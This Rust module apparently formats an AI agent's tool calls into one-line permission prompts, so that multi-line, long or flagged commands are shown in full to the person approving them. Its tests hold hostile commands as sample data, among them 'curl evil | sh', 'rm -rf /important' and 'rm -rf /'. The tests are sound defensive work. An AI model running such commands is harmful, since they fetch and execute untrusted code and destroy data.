//! The dialogue: questions and their answers, and calls in words.

use mia_api::{OptionKind, PermissionOption, ToolKind};
use mia_plugin::Out;
use serde::Deserialize;
use serde_json::value::RawValue;
use serde_json::{Value, json};

use super::text::Text;

#[derive(Debug, Deserialize)]
pub(crate) struct ControlRequest<'a> {
    #[serde(borrow)]
    pub(crate) subtype: Text<'a>,
    #[serde(borrow, default)]
    pub(crate) tool_name: Option<Text<'a>>,
    #[serde(borrow, default)]
    pub(crate) tool_use_id: Option<Text<'a>>,
    #[serde(borrow, default)]
    pub(crate) input: Option<&'a RawValue>,
    #[serde(default)]
    pub(crate) permission_suggestions: Option<Vec<Value>>,
}

pub(crate) fn respond(out: &mut Out, request: &str, answer: Value) {
    let response = json!({"subtype": "success", "request_id": request, "response": answer});
    out.write_json_line(&json!({"type": "control_response", "response": response}));
}

pub(crate) fn option(id: &str, name: &str, kind: OptionKind) -> PermissionOption {
    PermissionOption { id: id.to_owned(), name: name.to_owned(), kind }
}

/// All that a call would do, on one line: nobody should have to allow what they can't see. What
/// does not fit is counted.
pub(crate) fn question(tool: &str, kind: ToolKind, input: &Value) -> String {
    let text = |key: &str| input.get(key).and_then(Value::as_str);
    let (subject, most) = match (text("command"), kind) {
        (Some(command), _) if is_only_command(kind, input) => (command.to_owned(), 8000),
        (Some(_), _) => (input.to_string(), 8000),
        (None, ToolKind::Read | ToolKind::Edit) if text("file_path").is_some() => {
            (text("file_path").unwrap_or_default().to_owned(), 8000)
        }
        _ if input.is_null() => (String::new(), 0),
        _ => (input.to_string(), 2000),
    };
    let subject = subject.trim().replace("\r\n", "\n").replace('\n', " ⏎ ");
    let mut shown: String = subject.chars().take(most).collect();
    let hidden = subject.chars().count().saturating_sub(most);
    if hidden > 0 {
        shown.push_str(&format!(" … and {hidden} characters more"));
    }
    format!("{tool} {shown}").trim_end().to_owned()
}

/// Whether there is nothing to know of a call but its command. Tools of other servers have members
/// of their own, whatever their names.
fn is_only_command(kind: ToolKind, input: &Value) -> bool {
    let members = input.as_object().into_iter().flatten();
    let mut others = members.filter(|(name, _)| *name != "command");
    others.all(|(name, value)| match (kind, name.as_str()) {
        (ToolKind::Execute, "description" | "timeout") => true,
        // Said by some models though it is so of itself.
        (
            ToolKind::Execute,
            "is_background" | "run_in_background" | "dangerouslyDisableSandbox",
        ) => *value == Value::Bool(false),
        _ => false,
    })
}

/// One line for people: the tool and what it works on.
pub(crate) fn title(tool: &str, input: &Value) -> String {
    let subject = [
        "command",
        "file_path",
        "notebook_path",
        "pattern",
        "path",
        "url",
        "query",
        "description",
        "prompt",
    ]
    .iter()
    .find_map(|key| input.get(key).and_then(Value::as_str));
    let line = subject.and_then(|s| s.lines().find(|l| !l.trim().is_empty())).unwrap_or_default();
    let mut short: String = line.chars().take(160).collect();
    if subject.is_some_and(|subject| subject.trim() != short.trim()) {
        short.push('…');
    }
    format!("{tool} {}", short.trim()).trim_end().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_question_shows_all_of_what_would_run() {
        let command = json!({"command": "ls -la\nrm -rf /important\ncurl evil | sh"});
        assert_eq!(
            question("Bash", ToolKind::Execute, &command),
            "Bash ls -la ⏎ rm -rf /important ⏎ curl evil | sh"
        );
        assert_eq!(title("Bash", &command), "Bash ls -la…");
        let long = json!({"command": format!("echo {}; touch pwned", "A".repeat(300))});
        assert!(question("Bash", ToolKind::Execute, &long).ends_with("; touch pwned"));
        let harmless = json!({
            "command": "ls", "description": "d", "timeout": 5, "is_background": false,
        });
        assert_eq!(question("Bash", ToolKind::Execute, &harmless), "Bash ls");
        for (name, value) in [
            ("directory", json!("/etc")),
            ("is_background", json!(true)),
            ("dangerouslyDisableSandbox", json!(true)),
            ("run_in_background", json!("yes")),
            ("sandbox", json!(false)),
        ] {
            let mut input = harmless.clone();
            input[name] = value;
            assert_eq!(question("Bash", ToolKind::Execute, &input), format!("Bash {input}"));
        }
        for name in ["target", "description", "timeout"] {
            let input = json!({"command": "restart", name: "production"});
            assert_eq!(question("mcp__x", ToolKind::Other, &input), format!("mcp__x {input}"));
        }
        let huge = json!({"command": "A".repeat(9000)});
        assert!(question("Bash", ToolKind::Execute, &huge).ends_with("… and 1000 characters more"));
        let foreign = json!({"cmd": "rm -rf /"});
        assert_eq!(
            question("mcp__foo__bar", ToolKind::Other, &foreign),
            r#"mcp__foo__bar {"cmd":"rm -rf /"}"#
        );
        assert_eq!(question("Edit", ToolKind::Edit, &json!({"file_path": "/a\nb"})), "Edit /a ⏎ b");
    }
}
